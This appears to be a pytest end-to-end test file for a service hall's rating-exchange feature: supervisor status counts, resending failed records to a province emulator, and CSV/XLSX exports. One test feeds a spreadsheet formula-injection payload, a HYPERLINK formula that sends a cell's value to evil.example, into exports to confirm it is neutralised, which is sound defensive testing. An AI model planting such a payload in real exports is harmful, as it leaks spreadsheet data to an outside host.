"""The 好差评 exchange for supervisors over HTTP (Flask test client) on SQLite and
PostgreSQL, against the emulator of the province's endpoint: pending / sent / failed counts
and rows with the endpoint's reason, a failed record sent again (and only a failed one), a
period's records as CSV and XLSX in the interface's fields, cut at the hall's midnight; the
admin page that shows it."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from drivers.haocha.emulator import HaochaEmulator
from hall.services.config import accounts
from hall.services.outbox import worker
from hall.services.outbox.http import JsonEndpoint
from hall.services.ratings import exchange
from tests.e2e.conftest import bearer, err, issue, served, sign_in_at_counter

API = "/api/v1/exchange"


@pytest.fixture
def province():
    with HaochaEmulator(token="province-secret") as emulator:
        yield emulator


def send(seeded, url: str, token: str) -> dict[str, int]:
    """One pass of the outbox worker (as `hall outbox run --once` makes)."""
    return worker.run_once(seeded, dict.fromkeys(exchange.TOPICS, JsonEndpoint(url, token)))


def rated_visit(client, kiosk_headers, staff, pad: dict, level: int, counter: int = 1) -> dict:
    """A visit served at ``counter`` and rated at its pad."""
    t = issue(client, kiosk_headers).json
    h = staff.csrf
    for step in ("call-next", "start"):
        r = staff.post(f"/api/v1/counters/{counter}/{step}", headers=h)
        assert r.status_code == 200, r.json
    r = staff.post(f"/api/v1/counters/{counter}/finish", json={"outcome": "done"}, headers=h)
    assert r.status_code == 200, r.json
    body = {"level": level, **({"reason": "等候时间长"} if level <= 2 else {})}
    r = client.post(f"/api/v1/tickets/{t['id']}/rating", json=body, headers=pad)
    assert r.status_code == 201, r.json
    return t


def staff_numbers(seeded) -> None:
    with seeded.engine.begin() as conn:  # the records' affairDealNo (工号)
        conn.execute(text("UPDATE staff SET number = 'GA-' || CAST(id AS VARCHAR(8))"))


def test_supervisors_see_the_exchange_and_send_a_failed_record_again(
        client, kiosk_headers, staff_client, supervisor_client, seeded, province):
    staff_numbers(seeded)
    sign_in_at_counter(staff_client)
    pad = bearer(accounts.add_device(seeded, kind="pad", counter_number=1).value["token"])
    rated_visit(client, kiosk_headers, staff_client, pad, 5)
    sup, h = supervisor_client, supervisor_client.csrf

    shown = sup.get(API)
    assert shown.status_code == 200, shown.json
    assert shown.json["counts"] == {"pending": 1, "sent": 0, "failed": 0}
    (row,) = shown.json["records"]
    assert row["state"] == "pending" and row["record"]["star"] == 5
    assert send(seeded, province.url, "province-secret")["sent"] == 1

    # the endpoint's token is wrong here for a while: the next two are refused (401)
    rated_visit(client, kiosk_headers, staff_client, pad, 2)
    rated_visit(client, kiosk_headers, staff_client, pad, 4)
    assert send(seeded, province.url, "an-old-token")["refused"] == 2
    shown = sup.get(API).json
    assert shown["counts"] == {"pending": 0, "sent": 1, "failed": 2}
    failed = shown["records"][:2]  # failed first, each with the endpoint's reason
    assert [r["state"] for r in shown["records"]] == ["failed", "failed", "sent"]
    assert all(r["last_error"] == "401 E_AUTH bad token" for r in failed)
    assert {r["record"]["star"] for r in failed} == {2, 4}
    only = sup.get(f"{API}?state=failed").json["records"]
    assert [r["id"] for r in only] == [r["id"] for r in failed]
    err(sup.get(f"{API}?state=lost"), 422, "invalid", "state")

    # only a failed record is sent again; another hall's or no record is not found
    sent_id = shown["records"][2]["id"]
    err(sup.post(f"{API}/{sent_id}/resend", headers=h), 409, "record_not_failed", "state")
    err(sup.post(f"{API}/999999/resend", headers=h), 404, "record_not_found", "record_id")
    err(staff_client.post(f"{API}/{failed[0]['id']}/resend", headers=staff_client.csrf),
        403, "forbidden", "authorization")
    err(staff_client.get(API), 403, "forbidden", "authorization")
    assert client.get(API).status_code == 401
    for r in failed:
        again = sup.post(f"{API}/{r['id']}/resend", headers=h)
        assert again.status_code == 200, again.json
        assert again.json["state"] == "pending" and again.json["attempts"] == 0
    assert send(seeded, province.url, "province-secret")["sent"] == 2
    assert sup.get(API).json["counts"] == {"pending": 0, "sent": 3, "failed": 0}
    assert sorted(r["star"] for r in province.accepted.values()) == [2, 4, 5]
    assert len(province.received) == 3  # each record once (the refused tries had no entry)

    page = sup.get("/admin/exchange")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert 'id="nav-exchange"' in html and "好差评" in html
    assert f'action="{API}/export"' in html and 'value="2026-11-01"' in html


def test_a_period_of_records_exports_as_csv_and_xlsx_cut_at_the_halls_midnight(
        client, kiosk_headers, staff_client, login_as, seeded, clock, province):
    staff_numbers(seeded)
    sign_in_at_counter(staff_client)
    pads = {n: bearer(accounts.add_device(seeded, kind="pad", counter_number=n)
                      .value["token"]) for n in (1, 2)}
    for level in (5, 3):  # Monday 23 November, 10:00 in Shanghai
        rated_visit(client, kiosk_headers, staff_client, pads[1], level)
    # 00:30 on Tuesday in Shanghai is still Monday 16:30 in UTC: Tuesday's record
    clock.advance(hours=14, minutes=30)
    late_staff = login_as("zhou", "staff", "周婷")
    staff_numbers(seeded)
    sign_in_at_counter(late_staff, 2)
    rated_visit(client, kiosk_headers, late_staff, pads[2], 4, counter=2)
    sup = login_as("wang", "supervisor", "王强")

    def export(start: str, end: str, fmt: str):
        return sup.get(f"{API}/export?since={start}&until={end}&format={fmt}")

    monday = export("2026-11-23", "2026-11-23", "json").json["records"]
    tuesday = export("2026-11-24", "2026-11-24", "json").json["records"]
    assert [r["star"] for r in monday] == [5, 3]
    assert [(r["star"], r["windowNo"], r["evalTime"]) for r in tuesday] == [
        (4, "2", "20261124003000")]

    r = export("2026-11-22", "2026-11-24", "csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert 'filename="haocha-20261122-20261124.csv"' in r.headers["Content-Disposition"]
    body = r.get_data()
    assert body.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert list(rows[0]) == list(exchange.FIELDS)  # the interface's own field names
    assert [row["star"] for row in rows] == ["5", "3", "4"]
    assert {row["affairDealOfficer"] for row in rows} == {"李娜", "周婷"}
    assert all(len(row["evalTime"]) == 14 and row["hallCode"] == "test" for row in rows)

    r = export("2026-11-22", "2026-11-24", "xlsx")
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(r.get_data())).active
    table = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert table[0] == list(exchange.FIELDS)
    got = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [row["star"] for row in got] == [5, 3, 4]
    by_key = {row["evalSerialNo"]: row for row in got}
    assert set(by_key) == {row["evalSerialNo"] for row in rows}

    # the export is what the province receives, field for field
    send(seeded, province.url, "province-secret")
    assert set(province.accepted) == set(by_key)
    for key, got in province.accepted.items():
        kept = by_key[key]
        assert {f: str(got[f] or "") for f in exchange.FIELDS[:-1]} == \
            {f: str(kept[f] or "") for f in exchange.FIELDS[:-1]}

    assert export("2026-11-25", "2026-11-30", "json").json["records"] == []
    month = sup.get(f"{API}/export?format=json").json  # by default: this month so far
    assert (month["since"], month["until"], len(month["records"])) == (
        "2026-11-01", "2026-11-24", 3)
    err(export("2026-11-24", "2026-11-23", "csv"), 422, "invalid_period", "until")
    err(export("2026-11-31", "2026-11-30", "csv"), 422, "invalid", "since")
    err(export("2025-01-01", "2026-11-30", "csv"), 422, "period_too_long", "until")


def test_the_exported_records_neutralise_formulas(client, kiosk_headers, staff_client,
                                                  supervisor_client, seeded):
    """Issue 16, item 8: a visitor's comment, a staff member's name or a service's name
    that begins like a formula (``=HYPERLINK(``, ``@SUM(``, ``+``, ``-``) comes out of the
    records' CSV and XLSX as text — openpyxl reads a string, not a formula, and the CSV
    cell starts with ' — while the record the province receives keeps the words as given."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    with seeded.engine.begin() as conn:
        conn.execute(text("UPDATE staff SET name = '@SUM(1+1)' WHERE login = 'li'"))
        conn.execute(text("UPDATE services SET name = '-2+3' WHERE code = 'hj'"))
    seeded.cache.clear()
    sign_in_at_counter(staff_client)
    pad = bearer(accounts.add_device(seeded, kind="pad", counter_number=1).value["token"])
    t = served(client, kiosk_headers, staff_client)
    r = client.post(f"/api/v1/tickets/{t['id']}/rating", headers=pad,
                    json={"level": 1, "reason": "等候时间长", "comment": evil})
    assert r.status_code == 201, r.json
    (record,) = supervisor_client.get(f"{API}/export?format=json").json["records"]
    assert (record["evalContent"], record["affairDealOfficer"], record["affairName"]) == (
        evil, "@SUM(1+1)", "-2+3")  # the province's record: the words as given

    body = supervisor_client.get(f"{API}/export?format=csv").get_data().decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert (row["evalContent"], row["affairDealOfficer"], row["affairName"]) == (
        "'" + evil, "'@SUM(1+1)", "'-2+3")
    assert row["evalReason"] == "等候时间长"  # plain text stays as it is

    data = supervisor_client.get(f"{API}/export?format=xlsx").get_data()
    sheet = load_workbook(io.BytesIO(data)).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert (cells["evalContent"], cells["affairDealOfficer"], cells["affairName"]) == (
        "'" + evil, "'@SUM(1+1)", "'-2+3")


def test_case_stages_show_beside_the_ratings_in_the_exchange_and_its_export(
        client, kiosk_headers, staff_client, supervisor_client, seeded, clock, province):
    """A 承诺件's 受理 and 办结 are records of their own (kind "affair", no star) beside the
    rating of its 受理 (kind "evaluation"): in the supervisors' view, the CSV and XLSX
    export, and at the province, each once."""
    staff_numbers(seeded)
    sign_in_at_counter(staff_client)
    pad = bearer(accounts.add_device(seeded, kind="pad", counter_number=1).value["token"])
    t = issue(client, kiosk_headers).json
    h = staff_client.csrf
    for step in ("call-next", "start"):
        assert staff_client.post(f"/api/v1/counters/1/{step}", headers=h).status_code == 200
    r = staff_client.post("/api/v1/counters/1/finish", json={"outcome": "accepted"},
                          headers=h)
    assert r.status_code == 200, r.json
    number = r.json["case"]["number"]
    r = client.post(f"/api/v1/tickets/{t['id']}/rating", json={"level": 5}, headers=pad)
    assert r.status_code == 201, r.json
    clock.advance(hours=1)
    sup = supervisor_client
    done = sup.post(f"/api/v1/cases/{number}/finish", json={}, headers=sup.csrf)
    assert done.status_code == 200, done.json

    shown = sup.get(API).json
    assert shown["counts"] == {"pending": 3, "sent": 0, "failed": 0}
    kinds = sorted((r["topic"], r["record"]["recordType"], r["record"]["evalProcess"],
                    r["record"].get("star")) for r in shown["records"])
    assert kinds == [("haocha.affair", "affair", "1", None),
                     ("haocha.affair", "affair", "2", None),
                     ("haocha.rating", "evaluation", "1", 5)]
    assert {r["record"]["affairSerialNo"] for r in shown["records"]} == {number}

    rows = sup.get(f"{API}/export?format=json").json["records"]
    assert [(r["recordType"], r["evalProcess"], r["affairResult"]) for r in rows] == [
        ("affair", "1", ""), ("evaluation", "1", ""), ("affair", "2", "办结")]
    body = sup.get(f"{API}/export?format=csv").get_data().decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(body)))
    assert [(row["recordType"], row["star"], row["evalSerialNo"]) for row in table] == [
        ("affair", "", ""), ("evaluation", "5", f"test-{t['id']}-1"), ("affair", "", "")]
    assert table[2]["affairDoneTime"] == "20261123110000"  # an hour after 10:00
    sheet = load_workbook(io.BytesIO(sup.get(f"{API}/export?format=xlsx").get_data())).active
    got = [dict(zip(exchange.FIELDS, row, strict=True))
           for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert [(g["recordType"], g["affairResult"]) for g in got] == [
        ("affair", None), ("evaluation", None), ("affair", "办结")]

    assert send(seeded, province.url, "province-secret") == {"sent": 3, "refused": 0,
                                                             "retry": 0}
    assert sorted(province.affairs) == [(number, "1"), (number, "2")]
    assert list(province.accepted) == [f"test-{t['id']}-1"]
    html = sup.get("/admin/exchange").get_data(as_text=True)
    assert "data-kind-affair=" in html and "data-kind-evaluation=" in html
